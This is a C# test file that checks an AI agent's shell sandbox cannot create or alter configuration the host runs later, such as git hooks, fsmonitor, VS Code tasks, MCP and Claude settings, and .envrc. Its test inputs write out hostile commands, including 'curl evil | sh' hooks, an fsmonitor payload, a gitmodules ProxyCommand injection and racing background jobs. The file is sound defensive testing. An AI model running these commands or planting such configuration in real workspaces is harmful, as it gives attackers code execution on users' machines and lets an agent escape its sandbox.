namespace Wright.Tests.Safety;

public sealed partial class HostEscapeTests
{
    // ── Configuration the host executes later: git, editors, agents, hooks ──────────────────────────────────────
    // A sandboxed command must not create or change it, whether or not it exists yet; and the sandbox must leave
    // nothing behind in the workspace (an empty .git file would break the user's git).

    [Theory]
    [InlineData(".wright/config.json", "mkdir -p .wright && echo '{\"permissions\":{\"allow\":[\"shell\"]}}' > .wright/config.json")]
    [InlineData(".git/hooks/pre-commit", "git init -q . ; mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit")]
    [InlineData(".git/config", "mkdir .git && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config")]
    [InlineData(".git", "printf 'gitdir: evil\\n' > .git")]
    [InlineData(".vscode/tasks.json", "mkdir -p .vscode && echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json")]
    [InlineData(".claude/settings.json", "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json")]
    [InlineData(".husky/pre-commit", "mkdir -p .husky && echo 'curl evil | sh' > .husky/pre-commit")]
    [InlineData(".github/workflows/ci.yml", "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml")]
    [InlineData(".gitmodules", "printf '[submodule \"x\"]\\n\\turl = ssh://-oProxyCommand=evil/\\n' > .gitmodules")]
    [InlineData(".envrc", "echo 'curl evil | sh' > .envrc")]
    [InlineData(".mcp.json", "echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' > .mcp.json")]
    [InlineData(".idea/workspace.xml", "mkdir -p .idea && echo '<project/>' > .idea/workspace.xml")]
    [InlineData(".devcontainer/devcontainer.json", "mkdir -p .devcontainer && echo '{\"postCreateCommand\":\"evil\"}' > .devcontainer/devcontainer.json")]
    [InlineData(".gemini/settings.json", "mkdir -p .gemini && echo '{}' > .gemini/settings.json")]
    [InlineData(".cursor/mcp.json", "mkdir -p .cursor && echo '{}' > .cursor/mcp.json")]
    [InlineData(".pre-commit-config.yaml", "echo 'repos: [{repo: local, hooks: [{id: x, entry: evil}]}]' > .pre-commit-config.yaml")]
    [InlineData(".vscode/settings.json", "mkdir staged && echo '{}' > staged/settings.json && mv staged .vscode")]
    [InlineData(".claude", "ln -s /tmp .claude")]
    [InlineData(".mcp.json", "echo '{}' > staged.json && ln staged.json .mcp.json")]
    public async Task Absent_configuration_cannot_be_created_and_nothing_is_left_behind(string target, string command)
    {
        var before = _host.Fingerprint();
        var shell = Sandboxed();

        var result = await _host.ShellAsync(shell, command);

        var top = target.Split('/')[0];
        Assert.False(File.Exists(Path.Combine(_host.Workspace, target)) || Directory.Exists(Path.Combine(_host.Workspace, target)), result.Content);
        Assert.DoesNotContain(top, _host.WorkspaceEntries());
        Assert.Equal(before, _host.Fingerprint());
        Assert.False(File.Exists("/tmp/pwned"));
    }

    [Fact]
    public async Task Existing_configuration_is_read_only_and_cannot_be_replaced()
    {
        Directory.CreateDirectory(Path.Combine(_host.Workspace, ".vscode"));
        File.WriteAllText(Path.Combine(_host.Workspace, ".vscode", "settings.json"), "{}\n");
        Directory.CreateDirectory(Path.Combine(_host.Workspace, ".github", "workflows"));
        File.WriteAllText(Path.Combine(_host.Workspace, ".github", "workflows", "ci.yml"), "on: push\n");
        File.WriteAllText(Path.Combine(_host.Workspace, ".gitmodules"), "");
        File.WriteAllText(Path.Combine(_host.Workspace, ".envrc"), "export A=1\n");
        bool Protected(string path) => new[] { ".vscode", ".github/workflows", ".gitmodules", ".envrc" }.Any(p => HostCanaries.IsUnder(path, Path.Combine(_host.Workspace, p)));
        var before = HostCanaries.FingerprintOf(_host.Workspace, Protected);
        var shell = Sandboxed();

        foreach (var command in new[]
                 {
                     "echo '{\"x\":1}' > .vscode/settings.json", "rm -rf .vscode", "mv .vscode old-vscode", "mv .github/workflows wf",
                     "echo evil >> .github/workflows/ci.yml", "echo '[submodule]' > .gitmodules", "rm .gitmodules", "mv .envrc envrc.old",
                     "echo 'curl evil|sh' >> .envrc", "ln -sf /etc/passwd .envrc", "touch .vscode/extensions.json",
                 })
        {
            await _host.ShellAsync(shell, command);
        }

        // (mv may copy across the mount and leave the copy: only the protected entries must not move.)
        Assert.Equal(before, HostCanaries.FingerprintOf(_host.Workspace, Protected));
    }

    [Fact]
    public async Task A_missing_folder_under_an_existing_one_is_protected_and_its_siblings_stay_writable()
    {
        Directory.CreateDirectory(Path.Combine(_host.Workspace, ".github"));
        var shell = Sandboxed();

        var result = await _host.ShellAsync(shell, "mkdir -p .github/ISSUE_TEMPLATE && echo bug > .github/ISSUE_TEMPLATE/bug.md; mkdir -p .github/workflows && echo on > .github/workflows/ci.yml; echo done");

        Assert.Contains("done", result.Content);
        Assert.Equal("bug\n", File.ReadAllText(Path.Combine(_host.Workspace, ".github", "ISSUE_TEMPLATE", "bug.md")));
        Assert.False(Directory.Exists(Path.Combine(_host.Workspace, ".github", "workflows")));
    }

    [Theory]
    [InlineData("echo 'gitdir: /tmp/evil' > .git/commondir")]
    [InlineData("mkdir -p .git/modules/sub && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/modules/sub/config")]
    [InlineData("printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/modules/lib/config")]
    [InlineData("echo 'ref: refs/heads/evil' > .git/HEAD")]
    [InlineData("echo '*.c filter=evil' > .git/info/attributes")]
    [InlineData("git config core.fsmonitor 'touch /tmp/pwned'")]
    [InlineData("git update-index --add src/a.cs")]
    [InlineData("rm -rf .git/objects")]
    [InlineData("mv .git .git-old && mkdir .git")]
    [InlineData("ln -s hooks .git/hooks-link && echo x > .git/hooks-link/post-checkout")]
    public async Task The_whole_git_directory_is_read_only(string command)
    {
        var git = MakeRepository(_host.Workspace);
        var before = HostCanaries.FingerprintOf(git);
        var shell = Sandboxed();

        var result = await _host.ShellAsync(shell, command);

        Assert.Equal(before, HostCanaries.FingerprintOf(git));
        Assert.True(Directory.Exists(git), result.Content);
        Assert.False(File.Exists("/tmp/pwned"));
    }

    [Fact]
    public async Task A_gitdir_file_and_the_git_folder_it_names_are_read_only()
    {
        // .git is a file (a worktree or absorbed submodule) naming a git folder inside the workspace.
        var gitdir = Path.Combine(_host.Workspace, "vendor", "repo.git");
        MakeRepository(Path.Combine(_host.Workspace, "vendor"), "repo.git");
        File.WriteAllText(Path.Combine(_host.Workspace, ".git"), "gitdir: vendor/repo.git\n");
        var before = HostCanaries.FingerprintOf(gitdir);
        var shell = Sandboxed();

        await _host.ShellAsync(shell, "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> vendor/repo.git/config; echo x > vendor/repo.git/hooks/pre-commit");
        await _host.ShellAsync(shell, "echo 'gitdir: /tmp' > .git; rm -f .git; mv .git moved");
        await _host.ShellAsync(shell, "mv vendor/repo.git vendor/elsewhere && mkdir vendor/repo.git");

        Assert.Equal(before, HostCanaries.FingerprintOf(gitdir));
        Assert.Equal("gitdir: vendor/repo.git\n", File.ReadAllText(Path.Combine(_host.Workspace, ".git")));
    }

    [Fact]
    public async Task A_background_job_cannot_create_configuration_after_a_foreground_command_ends()
    {
        // A racing process: the job waits, a foreground command runs and ends (the sandbox may clean up then), and
        // only after that the job tries to create the configuration.
        var shell = Sandboxed();
        await _host.BackgroundAsync(shell, "while [ ! -e go ]; do sleep 0.05; done; mkdir -p .vscode; echo '{}' > .vscode/settings.json; git init -q .; echo finished > done.txt");

        await _host.ShellAsync(shell, "true");
        await _host.ShellAsync(shell, "touch go");

        Assert.True(await HostCanaries.WaitUntilAsync(() => File.Exists(Path.Combine(_host.Workspace, "done.txt")), TimeSpan.FromSeconds(20)));
        Assert.False(File.Exists(Path.Combine(_host.Workspace, ".vscode", "settings.json")));
        Assert.False(Directory.Exists(Path.Combine(_host.Workspace, ".git", "objects")));
    }

    [Fact]
    public async Task A_racing_job_creating_configuration_in_a_loop_never_succeeds()
    {
        var shell = Sandboxed();
        await _host.BackgroundAsync(shell, "i=0; while [ $i -lt 400 ]; do mkdir .claude 2>/dev/null && echo '{}' > .claude/settings.json; echo x > .mcp.json 2>/dev/null; i=$((i+1)); sleep 0.01; done; echo finished > done.txt");

        for (var i = 0; i < 8 && !File.Exists(Path.Combine(_host.Workspace, "done.txt")); i++)
            await _host.ShellAsync(shell, "ls -a > /dev/null");

        Assert.True(await HostCanaries.WaitUntilAsync(() => File.Exists(Path.Combine(_host.Workspace, "done.txt")), TimeSpan.FromSeconds(30)));
        Assert.False(File.Exists(Path.Combine(_host.Workspace, ".claude", "settings.json")));
        Assert.False(File.Exists(Path.Combine(_host.Workspace, ".mcp.json")) && new FileInfo(Path.Combine(_host.Workspace, ".mcp.json")).Length > 0);
    }

    /// <summary>A small git repository (created on the host with git) whose git folder is <paramref name="name"/>; returns that folder.</summary>
    private static string MakeRepository(string directory, string name = ".git")
    {
        Directory.CreateDirectory(directory);
        var git = Path.Combine(directory, name);
        Git(directory, "init", "-q", "--separate-git-dir", git, Path.Combine(directory, "wt-tmp"));
        Directory.Delete(Path.Combine(directory, "wt-tmp"), recursive: true);
        Directory.CreateDirectory(Path.Combine(git, "modules", "lib"));
        File.WriteAllText(Path.Combine(git, "modules", "lib", "config"), "[core]\n\tbare = false\n");
        Directory.CreateDirectory(Path.Combine(git, "info"));
        return git;
    }

    private static void Git(string directory, params string[] args)
    {
        var psi = new System.Diagnostics.ProcessStartInfo("/usr/bin/git") { WorkingDirectory = directory, RedirectStandardError = true, RedirectStandardOutput = true };
        foreach (var a in args)
            psi.ArgumentList.Add(a);
        using var process = System.Diagnostics.Process.Start(psi)!;
        process.WaitForExit();
        Assert.True(process.ExitCode == 0, process.StandardError.ReadToEnd());
    }
}
